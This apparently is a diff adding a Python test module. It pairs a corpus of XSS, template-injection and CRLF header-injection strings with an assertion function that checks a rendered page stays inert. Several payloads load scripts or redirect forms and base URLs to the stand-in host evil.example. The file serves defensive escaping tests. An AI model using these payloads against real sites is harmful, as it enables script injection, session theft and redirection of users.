@@ -1,0 +1,71 @@
+"""Texts that have become markup or scripts elsewhere, and how to tell that none has on a page of ours."""
+
+from __future__ import annotations
+
+import json
+
+from bs4 import BeautifulSoup
+
+# Every element that one of these would make has an attribute x55, every script would call x55().
+FEW = [
+    "<script>alert(1)</script>",
+    "\"'><img src=x onerror=alert(1)>",
+    "</textarea></title></svg><script>alert(1)</script>",
+    "<svg onload=alert(1)><style>*{}</style>",
+    "' onmouseover='alert(1)' x='",
+    "javascript:alert(1)//{{7*191}}${7*191}",
+    "&lt;script&gt;&#60;b&#62;",
+]
+CORPUS = [
+    *FEW,
+    "<script x55>x55()</script>",
+    "<ScRiPt x55 >x55()</sCrIpT >",
+    "<scr<script x55>ipt x55>x55()</scr</script>ipt>",
+    '"><script x55 src=//evil.example/x.js></script>',
+    "'\"--><svg/x55/onload=x55()>",
+    "<img x55 src=x onerror=x55()//",  # without an end: whatever follows is part of it
+    '" x55 autofocus onfocus=x55() y="',
+    "' x55 autofocus onfocus=x55() y='",
+    "` x55 onmouseover=x55() `",
+    "<a x55 href=javascript:x55()>a</a>",
+    "<a x55 href='java\tscript:x55()'>a</a>",
+    "[a](javascript:x55())",
+    "data:text/html,<script x55>x55()</script>",
+    "vbscript:x55()",
+    "//evil.example/%0d%0aSet-Cookie:x55=1",
+    "<iframe x55 srcdoc='<script>x55()</script>'></iframe>",
+    "<math x55><mtext><table><mglyph><style><img x55 src=x onerror=x55()>",
+    "<template x55><form x55 action=//evil.example><button x55 formaction=javascript:x55()>x",
+    "<div x55 hx-get=/sign-out hx-trigger=load hx-on:click=x55()></div>",
+    "<base x55 href=//evil.example/><link x55 rel=stylesheet href=//evil.example/x.css>",
+    "<meta x55 http-equiv=refresh content='0;url=javascript:x55()'>",
+    "</script><script x55>x55()</script>",
+    "\"}'></div><input x55 name=csrf_token>",
+    "{{x55}}<%= x55 %>${x55}#{x55}{% x55 %}",
+    "\u003cimg x55 src=x onerror=x55()\u003e\uff1cscript x55\uff1e",
+    "%3Cscript%20x55%3Ex55()%3C/script%3E",
+    "&#60;script x55&#62;x55()&#60;/script&#62;&quot;&apos;",
+    "<!--><img x55 src=x onerror=x55()>-->",
+    "<x55 x55/onpointerenter=x55()>\u2028<x55 x55>",
+]
+
+LEADING = ("href", "src", "action", "formaction", "xlink:href", "hx-get", "hx-post", "hx-push-url", "poster", "srcset")
+
+
+def assert_inert(page: BeautifulSoup) -> None:
+    """Assert that a page has no script, handler, style or image but its own, and leads nowhere that acts."""
+    assert not [script for script in page.select("script") if not str(script.get("src", "")).startswith("/static/")]
+    assert not page.select("style, img, iframe, object, embed, base, b, math, template, [x55], x55")
+    assert not page.select("meta[http-equiv], link:not([href^='/static/'])")
+    for element in page.find_all():
+        names = [name for name in element.attrs if name.startswith(("on", "hx-on")) or name == "style"]
+        assert not names, element
+        for name in LEADING:
+            leads = str(element.get(name, "")).strip().lower()
+            assert leads[:2] != "//", element
+            harmless = leads.startswith(("/", "#", "?", "http://", "https://"))
+            assert harmless or leads in ("", "true", "false", "."), element
+        for name, value in element.attrs.items():
+            if name in ("hx-vals", "hx-headers", "content") and str(value).startswith("{"):
+                json.loads(str(value))
+    assert "1337" not in page.get_text()
